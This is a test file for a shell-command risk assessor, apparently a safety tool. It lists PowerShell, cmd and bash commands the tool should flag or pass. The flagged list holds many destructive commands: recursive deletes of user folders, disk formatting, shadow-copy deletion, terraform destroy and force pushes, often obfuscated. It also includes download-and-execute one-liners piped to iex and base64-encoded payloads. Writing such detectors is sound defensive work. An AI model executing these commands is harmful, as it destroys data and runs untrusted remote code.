import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { ShellName } from '../../../../src/core/assess/assessment.js';
import { assessIn, isAlarming } from '../assess/fake-world.js';
import { runs } from '../../../runs.js';

const flagged: readonly (readonly [ShellName, string])[] = [
  ['powershell', 'Remove-Item -Recurse -Force C:\\Users'], ['powershell', 'remove-item -r -fo ~'], ['powershell', 'rm -Recurse ..'], ['powershell', "ri '..' -rec"], ['powershell', 'Rem`ove-Item -Recurse ..'], ['powershell', "$d = '..'; Remove-Item $d -Recurse"], ['powershell', 'Remove-Item $unknown -Recurse'], ['powershell', 'Get-ChildItem | ForEach-Object { Remove-Item $_ -Recurse }'], ['powershell', "iex 'Remove-Item .. -Recurse'"], ['powershell', "& 'git' push --force"], ['powershell', 'if ($true) { terraform destroy }'], ['powershell', 'git push --force; ls'], ['powershell', 'powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALgAuACAALQBSAGUAYwB1AHIAcwBlAA=='], ['powershell', 'cmd /c "rd /s /q .."'], ['powershell', 'wsl rm -rf /srv'], ['powershell', 'Stop-Computer'], ['powershell', 'Format-Volume -DriveLetter D'], ['powershell', 'Start-Process terraform destroy'],
  ['cmd', 'rd /s /q C:\\Users'], ['cmd', 'del /s /q ..'], ['cmd', 'echo a & rd /s /q ..'], ['cmd', 'r^d /s /q ..'], ['cmd', 'format d:'], ['cmd', 'git push --force'], ['cmd', 'powershell -c "Remove-Item .. -Recurse"'], ['cmd', 'vssadmin delete shadows /all'], ['cmd', 'call terraform destroy'],
  ['powershell', 'gci -Path C:\\Users -Recurse | ri -r -fo'], ['powershell', 'Remove-Item -Path .. -Recurse -Confirm'], ['powershell', 'Remove-Item -Path .. -Recurse -Confirm:$false'], ['powershell', '[IO.File]::Delete(\'C:\\Windows\\x\')'], ['powershell', '[System.IO.Directory]::Delete("C:\\Users", $true)'],
  ['powershell', '(Get-Item C:\\Users).Delete($true)'], ['powershell', '$a = \'Remove\'; $b = "$a-Item"; & $b .. -Recurse'], ['powershell', '& (\'Remove\' + \'-Item\') .. -Recurse'], ['powershell', 'iex "Remove-Item .. -Recurse"'], ['powershell', 'iwr https://x/y.ps1 | iex'],
  ['powershell', 'Invoke-Command -ComputerName prod-web1 -ScriptBlock { Stop-Service w3svc }'], ['powershell', 'Start-Process -FilePath terraform -ArgumentList \'destroy\',\'-auto-approve\' -Wait'], ['powershell', '$p = @{ Path = \'..\'; Recurse = $true }\nRemove-Item @p'], ['powershell', 'Remove-Item @unknown'], ['powershell', 'Remove-Item `\n  -Recurse `\n  ..'],
  ['powershell', '$t = @"\nRemove-Item .. -Recurse\n"@\niex $t'], ['powershell', 'git push --% --force origin main'], ['powershell', 'git push --force=true'], ['powershell', 'kubectl delete ns pay; if ($?) { terraform destroy }'], ['powershell', '\'a\',\'b\' | ForEach-Object { kubectl delete ns $_ }'],
  ['powershell', 'foreach ($d in \'..\',\'x\') { Remove-Item $d -Recurse }'], ['powershell', 'function Nuke($p) { Remove-Item $p -Recurse -Force }; Nuke ..'], ['powershell', 'rm -rf /srv/data'], ['powershell', 'Remove-AzResourceGroup -Name prod -Force'], ['powershell', 'Set-Content -Path x.ps1 -Value \'Remove-Item .. -Recurse\'; ./x.ps1'],
  ['powershell', '$env:AWS_PROFILE = \'prod\'; aws s3 rb s3://x --force'], ['powershell', 'try { Remove-Item .. -Recurse -ErrorAction Stop } catch { Write-Error $_ }'], ['powershell', 'Get-Process | Where-Object { $_.CPU -gt 10 } | Stop-Process -Force'], ['powershell', 'switch ($x) { \'a\' { Remove-Item .. -Recurse } default { ls } }'], ['powershell', 'Remove-Item –Recurse –Force ..'],
  ['powershell', '$s = [ScriptBlock]::Create(\'Remove-Item .. -Recurse\'); & $s'], ['powershell', 'docker ps -aq | ForEach-Object { docker rm -f $_ }'], ['powershell', '"Remove-Item .. -Recurse" | iex'], ['powershell', 'cmd /c rd /s /q ..'], ['powershell', '$null = Remove-Item .. -Recurse'],
  ['powershell', '(New-Object Net.WebClient).DownloadString(\'http://x\') | iex'], ['powershell', 'Get-VM | Stop-VM'], ['powershell', 'sc.exe delete foo'], ['bash', 'Remove-Item -Recurse -Force C:\\data'], ['bash', 'ssh win \'Remove-Item -Recurse C:\\inetpub\''],
  ['bash', 'iex "Remove-Item .. -Recurse"'], ['bash', 'pwsh -NoProfile -NonInteractive -ExecutionPolicy Bypass -Command "& { Remove-Item .. -Recurse }"'], ['bash', 'echo \'Remove-Item .. -Recurse\' | pwsh -Command -'], ['bash', 'pwsh -e UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALgAuACAALQBSAGUAYwB1AHIAcwBlAA=='], ['cmd', '@echo off\nset d=..\nrd /s /q %d%'],
  ['cmd', 'setlocal enabledelayedexpansion\nset x=rd\n!x! /s /q ..'], ['cmd', 'for /d %%i in (*) do rd /s /q "%%i"'], ['cmd', 'if exist .. (\n rd /s /q ..\n) else (\n echo no\n)'], ['cmd', 'cmd /c "rd /s /q .."'], ['cmd', 'start "" /b rd /s /q ..'],
  ['cmd', 'type nul > important.db'], ['cmd', 'call :clean\ngoto :eof\n:clean\nrd /s /q ..'], ['cmd', 'rd/s/q ..'], ['cmd', 'echo y| del /s ..\\*'], ['cmd', '"C:\\Program Files\\Git\\bin\\git.exe" push --force'],
  ['cmd', 'set x=rd&& %x% /s /q ..'], ['cmd', 'if not defined X rd /s /q ..'], ['cmd', 'wsl rm -rf /srv'], ['cmd', 'powershell -Command "Remove-Item .. -Recurse"'], ['cmd', 'forfiles /p .. /c "cmd /c del @file"'],
  ['cmd', 'set P=prod&& kubectl --context %P% delete ns x'], ['cmd', '(echo a\necho b) > C:\\Windows\\x.ini'], ['cmd', 'copy /y nul data.db'], ['cmd', '%comspec% /c rd /s /q ..'],
];
const clear: readonly (readonly [ShellName, string])[] = [
  ['powershell', 'Get-ChildItem -Recurse'], ['powershell', 'Remove-Item a.txt'], ['powershell', 'Remove-Item -Recurse node_modules'], ['powershell', 'Remove-Item -Recurse .. -WhatIf'], ['powershell', "Write-Host 'Remove-Item -Recurse ..'"], ['powershell', '# Remove-Item -Recurse ..'], ['powershell', 'git status; npm test'], ['powershell', '$x = 1; $x'],
  ['cmd', 'dir /s'], ['cmd', 'del a.txt'], ['cmd', 'rd /s /q node_modules'], ['cmd', 'echo hello'], ['cmd', 'rem rd /s /q ..'],
  ['powershell', 'Get-ChildItem *.log | % { Remove-Item $_ -Recurse }'], ['powershell', '<# x #> ls # Remove-Item .. -Recurse'], ['powershell', '$x = Get-Content a.txt; $x.Count'], ['powershell', 'npm run build && npm test'], ['powershell', 'Write-Host "done: $(Get-Date)"'],
  ['powershell', 'if (Test-Path dist) { Remove-Item -Recurse -Force dist }'], ['powershell', 'gci -Recurse -Include bin,obj | Remove-Item -Recurse -Force'], ['powershell', 'Import-Module Az; Connect-AzAccount'], ['powershell', '$files | Remove-Item'], ['powershell', '$h = @{a=1;b=\'x\'}; $h.a'],
  ['powershell', '1..10 | % { $_ * 2 }'], ['powershell', 'ls -la'], ['bash', 'Get-ChildItem -Path . -Filter *.tmp | Remove-Item'], ['bash', 'pwsh ./deploy.ps1'], ['cmd', 'for /f %i in (\'dir /b\') do del %i'],
  ['cmd', ':: rd /s /q ..'], ['cmd', 'npm ci && npm run build'], ['cmd', 'git status & dir & dir'], ['cmd', 'if "%1"=="" echo usage'], ['cmd', 'ec^ho hi'],
];

describe('Windows shells', () => {
  for (const [shell, text] of flagged) it(`${shell} would: ${text}`, () => assert.ok(isAlarming(assessIn(text, { shell }))));
  for (const [shell, text] of clear) it(`${shell} would not: ${text}`, () => assert.ok(!isAlarming(assessIn(text, { shell }))));
  it('show the range of a command', () => {
    const text = 'ls; Remove-Item .. -Recurse';
    const [finding] = assessIn(text, { shell: 'powershell' }).findings;
    assert.equal(text.slice(finding?.span.start, finding?.span.end), 'Remove-Item .. -Recurse');
  });
  it('always give an answer', () => {
    const token = fc.constantFrom('Remove-Item', '-Recurse', '$x', '=', '{', '}', '(', ')', "'", '"', '`', ';', '|', '&', '#', '<#', '#>', '$(', '@', ' ', '\n', 'iex', 'cmd /c', '%X%', '^');
    fc.assert(fc.property(fc.array(token, { maxLength: 30 }), fc.constantFrom<ShellName>('powershell', 'cmd', 'fish', 'zsh'), (tokens, shell) => void assessIn(tokens.join(' '), { shell })), { numRuns: runs(800) });
  });
});
